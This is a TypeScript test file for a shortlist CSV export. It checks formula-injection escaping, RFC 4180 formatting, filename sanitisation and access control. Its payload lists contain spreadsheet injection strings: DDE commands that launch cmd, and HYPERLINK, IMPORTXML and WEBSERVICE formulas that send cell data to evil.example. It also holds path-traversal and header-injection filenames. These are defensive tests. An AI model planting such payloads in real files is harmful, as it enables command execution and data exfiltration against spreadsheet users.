import { parse as parseDisposition } from 'content-disposition'
import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { describe, expect, test } from 'vitest'
import { ask, outcomeOf, solutionIds } from '../../town/ask.ts'
import { db, shortlists } from '../../town/town.ts'

const { nightShifts, locums } = shortlists

const file = (id: string = nightShifts) => ask('pia', `GET /shortlists/${id}/export`)
const rowsOf = (text: string): string[][] => parse(text, { bom: true, record_delimiter: '\r\n' })
const exported = async (id?: string) => rowsOf((await file(id)).body)

/** What spreadsheets calculate, run or fetch (PayloadsAllTheThings, OWASP), also behind signs that some of them skip. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '=WEBSERVICE("http://evil.example")',
  "=10+20+cmd|' /C calc'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  'DDE ("cmd";"/C calc";"!A0")A0',
  '+1+1',
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!D2",
  '-1',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1"',
  '""=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u00ad=1+1',
]
/** Harmless in one cell, but not where a spreadsheet parts cells by something else than commas. */
const laterFormulas = ['x;=1+1', 'x; "=1+1', 'x\t@SUM(1)', 'x\n+1', 'x";-1']
/** These cannot be typed: texts are trimmed. A catalogue that was written by other hands may have them. */
const padded = [
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u00a0@SUM(1)',
  '  "  =1+1',
  '\u2003-1',
  '\tx',
  '\rx',
  '\nx',
]

/** A cell that any spreadsheet might take for a formula, seen with other eyes than those that wrote the file. */
const isFormula = (cell: string) =>
  '=+-@＝＋－＠'.includes([...cell.replace(/^[\s\p{C}"]+/u, '')][0] ?? ' ') || /^[\t\r\n]/.test(cell)

describe('ABUSE 46: no cell is a formula', () => {
  test.each(formulas)('ABUSE 46: %j as a reason', async (formula) => {
    const { interimo } = await solutionIds()
    const saved = (await ask('pia', `PATCH /shortlists/${locums}/items/${interimo}`, { reason: formula })).json()
    const reason = saved.items[1].reason
    const cell = (await exported(locums))[2]![3]!
    expect(isFormula(cell)).toBe(false)
    expect([reason, `'${reason}`]).toContain(cell)
    if (isFormula(reason)) expect(cell).toBe(`'${reason}`)
  })

  test.each(laterFormulas)('ABUSE 46: %j, also where cells end at semicolons, tabs and lines', async (reason) => {
    const { interimo } = await solutionIds()
    await ask('pia', `PATCH /shortlists/${locums}/items/${interimo}`, { reason })
    const { body } = await file(locums)
    expect(body.split(/[;,\t\r\n]/).filter((cell) => isFormula(cell) && cell.trim() !== '')).toEqual([])
  })

  test.each([...formulas, ...padded])('ABUSE 46: %j in every field of the catalogue', async (formula) => {
    await sql`
      update solutions set name = ${formula}, tagline = ${formula}, category = ${formula}, capabilities = ${[formula, 'x']},
        regions = ${[formula]}, customer_size = ${formula}, pricing_model = ${formula} where slug = 'interimo'`.execute(
      db(),
    )
    const [rank, ...cells] = (await exported(locums))[2]!
    expect(rank).toBe('2')
    expect(cells.filter(isFormula)).toEqual([])
    for (const cell of [cells[0], cells[1], cells[3]]) expect([formula, `'${formula}`]).toContain(cell)
  })

  test('harmless texts stay as they are', async () => {
    const { interimo } = await solutionIds()
    for (const reason of ['3 - 2 = 1', "'quoted'", 'a@b', '50 %', 'Ångström', '“=1”', '(-1)', '| =']) {
      await ask('pia', `PATCH /shortlists/${locums}/items/${interimo}`, { reason })
      expect((await exported(locums))[2]![3]).toBe(reason)
    }
  })
})

describe('RFC 4180', () => {
  test('the columns of the page, ranked, in UTF-8 with its mark, lines ended by CR LF', async () => {
    const { body } = await file()
    expect(body.startsWith('\ufeffRank,Solution,Tagline,Why,')).toBe(true)
    expect(body.endsWith('\r\n')).toBe(true)
    const [header, ...rows] = rowsOf(body)
    expect(header).toEqual([
      'Rank',
      'Solution',
      'Tagline',
      'Why',
      'Category',
      'Capabilities',
      'Regions',
      'Size of customers',
      'Pricing model',
      'Verified',
    ])
    expect(rows.map(([rank, name]) => [rank, name])).toEqual([
      ['1', 'Crewline'],
      ['2', 'Kindred Locum'],
      ['3', 'Talentbridge'],
      ['4', 'Fieldforce International Workforce Solutions'],
    ])
    expect(rows[0]![3]).toBe('Filled 94 % of night shifts within six hours at Karlsberg. Has its own payroll.')
    expect(rows[0]!.at(-1)).toBe('Yes')
  })

  test.each([
    'a,b',
    'a;b',
    'say "yes"',
    '"',
    '""',
    '",\n"',
    'line\nbreak',
    'a\r\nb',
    'tab\there',
    '日本語 🚀 e\u0301',
    ',',
    "it's",
  ])('the reason %j comes back whole', async (reason) => {
    const { interimo } = await solutionIds()
    await ask('pia', `PATCH /shortlists/${locums}/items/${interimo}`, { reason })
    const rows = await exported(locums)
    expect(rows.map((row) => row.length)).toEqual([10, 10, 10])
    expect(rows[2]![3]).toBe(reason.normalize('NFC').replace(/\r\n/g, '\n'))
  })

  test('an empty shortlist is its header', async () => {
    const { id } = (await ask('pia', 'POST /shortlists', { title: 'Empty' })).json()
    expect(await exported(id)).toHaveLength(1)
  })
})

describe('the file', () => {
  const nameFor = async (title: string) => {
    await db().updateTable('shortlists').set({ title }).where('id', '=', locums).execute()
    const answer = await file(locums)
    expect(answer.statusCode, answer.body).toBe(200)
    const header = String(answer.headers['content-disposition'])
    // biome-ignore lint/suspicious/noControlCharactersInRegex: that none is in the header is what is promised
    expect(header).not.toMatch(/[\x00-\x1f\x7f-\uffff]/)
    const { type, parameters } = parseDisposition(header)
    expect(type).toBe('attachment')
    return parameters.filename
  }

  test('it is kept by no cache, is a CSV with a header, and is saved, not shown', async () => {
    const { headers } = await file()
    expect(headers['cache-control']).toBe('no-store')
    expect(headers['content-type']).toBe('text/csv; charset=utf-8; header=present')
    expect(headers['x-content-type-options']).toBe('nosniff')
    expect(headers['content-disposition']).toBe('attachment; filename="Night shift cover, winter 2026.csv"')
  })

  test.each([
    ['../../etc/passwd', 'etc passwd.csv'],
    ['C:\\Windows\\System32', 'C Windows System32.csv'],
    ['a"; filename="evil.exe', 'a ; filename= evil exe.csv'],
    ['report.exe', 'report exe.csv'],
    ['...', 'Shortlist.csv'],
    ['//', 'Shortlist.csv'],
    ['Größe und Zürich', 'Größe und Zürich.csv'],
    ['日本語', '日本語.csv'],
    ['100 %20 percent', '100 %20 percent.csv'],
    ['a\r\nSet-Cookie: x=1', 'a Set-Cookie x=1.csv'],
    ['x'.repeat(120), `${'x'.repeat(80)}.csv`],
    [`${'x'.repeat(79)}🚀🚀`, `${'x'.repeat(79)}🚀.csv`],
    [`${'x'.repeat(80)}🚀`, `${'x'.repeat(80)}.csv`],
    [`${'x'.repeat(79)} yy`, `${'x'.repeat(79)}.csv`],
    ['🚀'.repeat(60), `${'🚀'.repeat(60)}.csv`],
  ])('the title %j names the file %j', async (title, name) => {
    expect(await nameFor(title)).toBe(name)
  })

  test('V1: only who reads the shortlist gets the file, and it is the same for all of them', async () => {
    for (const person of ['bea', 'edith', 'vic'] as const)
      expect((await ask(person, `GET /shortlists/${nightShifts}/export`)).body).toBe((await file()).body)
    for (const [person, id] of [
      ['max', nightShifts],
      ['bea', locums],
      ['omar', nightShifts],
      ['stan', nightShifts],
    ] as const)
      expect(outcomeOf(await ask(person, `GET /shortlists/${id}/export`))).toEqual([404, 'not_found'])
    expect(outcomeOf(await ask('nobody', `GET /shortlists/${nightShifts}/export`))).toEqual([401, 'signed_out'])
  })

  test('ABUSE 40: a condition on the version shows nothing to who may not read', async () => {
    const headers = { 'if-none-match': '"1"' }
    expect((await ask('max', `GET /shortlists/${nightShifts}`, undefined, { headers })).statusCode).toBe(404)
    expect((await ask('max', `GET /shortlists/${nightShifts}/export`, undefined, { headers })).statusCode).toBe(404)
  })
})
